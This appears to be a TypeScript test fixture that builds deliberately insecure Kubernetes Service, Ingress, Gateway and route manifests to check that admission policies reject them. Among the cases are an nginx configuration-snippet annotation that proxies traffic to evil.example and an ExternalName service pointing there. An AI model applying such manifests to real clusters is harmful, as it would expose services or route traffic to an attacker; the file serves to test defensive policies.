import type { KubernetesObject } from '../api-client.ts';
import { changedBy, set, type Tree, treeObject, without } from '../objects-of-tree.ts';
import type { Change, Hostile } from './hostile.ts';

const balancers = 'load-balancers-are-internal';
const inside = 'services-stay-inside';
const ingresses = 'ingresses-take-https-only';
const gateways = 'gateways-are-internal-and-encrypted';
const routes = 'routes-answer-to-our-name';
const internal = { 'service.beta.kubernetes.io/azure-load-balancer-internal': 'true' };

/** What could open a way in: services, ingresses, gateways, routes. */
export function againstEdges(tree: Tree): readonly Hostile[] {
  const service = treeObject(tree, 'Service', 'web-frontend');
  const gateway = treeObject(tree, 'Gateway', 'internal');
  const route = treeObject(tree, 'HTTPRoute', 'web-frontend');
  const row = (
    what: string,
    mended: KubernetesObject,
    refusedBy: readonly string[],
    ...changes: readonly Change[]
  ): Hostile => ({ what, hostile: changedBy(mended, ...changes), mended, refusedBy });
  const balancer: KubernetesObject = {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name: 'internal-istio', namespace: gateway.metadata.namespace ?? '', annotations: internal },
    spec: {
      type: 'LoadBalancer',
      externalTrafficPolicy: 'Local',
      ports: [{ name: 'https', port: 443 }],
      selector: { a: 'b' },
    },
  };
  const ingress: KubernetesObject = {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: {
      name: 'another',
      namespace: service.metadata.namespace ?? '',
      annotations: { 'kubernetes.io/ingress.allow-http': 'false' },
    },
    spec: {
      ingressClassName: 'internal',
      tls: [{ hosts: ['shop.example'], secretName: 'shop' }],
      rules: [
        {
          host: 'shop.example',
          http: {
            paths: [
              { path: '/', pathType: 'Prefix', backend: { service: { name: 'web-frontend', port: { number: 80 } } } },
            ],
          },
        },
      ],
    },
  };
  const snippet = { 'nginx.ingress.kubernetes.io/configuration-snippet': 'proxy_pass http://evil.example;' };
  return [
    row('a load balancer with a public address', balancer, [balancers], without('metadata.annotations')),
    row(
      'a load balancer that says it is not internal',
      balancer,
      [balancers],
      set('metadata.annotations', { 'service.beta.kubernetes.io/azure-load-balancer-internal': 'false' }),
    ),
    row(
      'a load balancer of the workload, though it is internal',
      service,
      [balancers, 'The ingress alone'],
      set('spec.type', 'LoadBalancer'),
      set('metadata.annotations', internal),
    ),
    row('a service on a port of every node', service, [inside], set('spec.type', 'NodePort')),
    row(
      'a service that is the name of something outside',
      service,
      [inside],
      set('spec', { type: 'ExternalName', externalName: 'evil.example' }),
    ),
    row('a service with an address of its own choice', service, [inside], set('spec.externalIPs', ['10.240.4.4'])),
    row('an ingress without TLS', ingress, [ingresses], without('spec.tls')),
    row('an ingress that answers in plain text too', ingress, [ingresses], without('metadata.annotations')),
    row(
      "an ingress with a piece of the proxy's configuration",
      ingress,
      [ingresses],
      set('metadata.annotations', { 'kubernetes.io/ingress.allow-http': 'false', ...snippet }),
    ),
    row('a gateway with a public address', gateway, [gateways], without('spec.infrastructure.annotations')),
    row(
      'a gateway in plain text',
      gateway,
      [gateways],
      set('spec.listeners.0.protocol', 'HTTP'),
      without('spec.listeners.0.tls'),
    ),
    row(
      'a gateway of the workload',
      gateway,
      [gateways, "The ingress's namespace".replace("'", '’')],
      set('metadata.namespace', service.metadata.namespace),
    ),
    row('a route that answers to another name', route, [routes], set('spec.hostnames', ['shop.example'])),
    row('a route that answers to every name', route, [routes], without('spec.hostnames')),
  ];
}
